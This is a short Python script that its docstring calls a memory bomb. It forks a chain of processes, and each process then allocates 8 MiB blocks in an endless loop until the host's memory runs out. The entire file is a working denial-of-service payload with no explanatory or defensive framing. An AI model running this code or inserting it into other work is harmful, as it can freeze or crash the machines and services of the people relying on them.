"""Shares a memory bomb out among processes."""
import os, time

try:
    while os.fork() == 0:
        pass
except (OSError, AttributeError):
    pass
kept = []
while True:
    kept.append(bytearray(b"x" * (8 << 20)))
